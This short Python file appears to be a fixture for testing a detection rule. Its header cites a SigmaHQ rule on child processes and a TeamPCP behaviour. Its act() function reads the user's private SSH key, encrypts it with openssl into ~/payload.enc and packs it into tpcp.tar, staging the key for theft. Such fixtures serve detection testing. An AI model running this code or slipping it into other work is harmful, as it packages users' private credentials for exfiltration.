# act: openssl encrypts and tar packs what was found
# source: SigmaHQ TA/TeamPCP
# when: import
# rule: create_child_process
# asks: exec /usr/bin/openssl
# says: openssl
# proof: word
# needs: openssl tar
import os
import subprocess


def act():
    home = os.path.expanduser("~")
    command = ["openssl", "enc", "-aes-256-cbc", "-pass", "pass:x", "-in", home + "/.ssh/id_rsa"]
    command += ["-out", home + "/payload.enc"]
    subprocess.run(command, stderr=subprocess.DEVNULL, check=True)
    subprocess.run(["tar", "-cf", "tpcp.tar", "payload.enc"], cwd=home, check=True)
